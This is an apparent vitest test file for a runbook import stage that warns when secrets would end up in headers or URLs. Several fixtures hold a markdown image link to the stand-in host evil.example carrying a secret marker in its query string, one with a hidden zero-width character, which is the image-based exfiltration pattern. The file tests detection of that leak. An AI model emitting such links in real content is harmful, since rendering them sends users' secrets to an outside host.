import { describe, expect, it } from "vitest";
import { warningsBesidesJournal, type StackRecord } from "../../support/import-stage.ts";
import { hexId, records, webhook } from "../../support/stack-records.ts";
import { archiveOf, importWith, MARK, note, runbook, RUNBOOK, targetWith, TEXT } from "./runbook.ts";

const SECRET = "s3cret-of-old";
const HEADER = "/tiles/0/config/headers/X-Key";

it("the plan shows what stands around a secret, on one line, with hosts in front and nothing hidden", async () => {
  const markdown = `first line\n![a\u200b](https://evil.example/p.png?k=${MARK})\nlast «redacted:jwt»`;
  const { run } = await importWith(archiveOf(runbook(markdown)), {});
  expect(run.plan.missingSecrets[0]?.around).toEqual([
    `evil.example: ![a\\u{200b}](https://evil.example/p.png?k=${MARK})`,
    "last «redacted:jwt»",
  ]);
});

describe("a secret that goes where others see it", () => {
  const shown = note(`![](https://evil.example/p.png?k=${MARK})`, { headers: { "X-Key": "«redacted:credential»" } });
  const archive = archiveOf(runbook("", { tiles: [shown] }));
  const answers = { [RUNBOOK]: { [TEXT]: SECRET, [HEADER]: SECRET } };
  const there = { ...runbook("old"), id: hexId("b", 16) };

  it.each([
    ["whose answer is open", {}, targetWith(), "blocked"],
    ["in a record that is created", answers, targetWith(), "create"],
    ["in a record that is updated", answers, targetWith(there), "update"],
  ])("is warned of by its place and host, and not by its value: one %s", async (_, values, stack, action) => {
    const { run } = await importWith(archive, values, { stack, onConflict: "overwrite" });
    expect(run.outcomes).toMatchObject([{ action }]);
    const warnings = warningsBesidesJournal(run.plan);
    expect(warnings).toHaveLength(2);
    expect(warnings).toEqual(
      expect.arrayContaining([
        { code: "secret-exposed", pointer: HEADER, message: expect.stringContaining("sent in a header") },
        { code: "secret-exposed", pointer: TEXT, message: expect.stringContaining("part of an address") },
      ]),
    );
    expect(JSON.stringify(warnings)).toContain("evil.example");
    expect(JSON.stringify(warnings)).not.toContain(SECRET);
  });

  const hook = { ...webhook(hexId("c", 5), "oncall"), url: "https://hooks.slack.com/«redacted:webhook-url»" };
  it.each<[string, StackRecord[], string[]?]>([
    ["plain text", archiveOf(runbook(`see http://wiki for the password: ${MARK}`))],
    ["a member for secrets", records({ webhooks: [hook] })],
    ["a record that is not written", records({ webhooks: [hook] }), []],
  ])("is no secret in %s", async (_, quiet, create = ["webhooks"]) => {
    expect((await importWith(quiet, {}, { create })).run.plan.warnings).toEqual([]);
  });
});
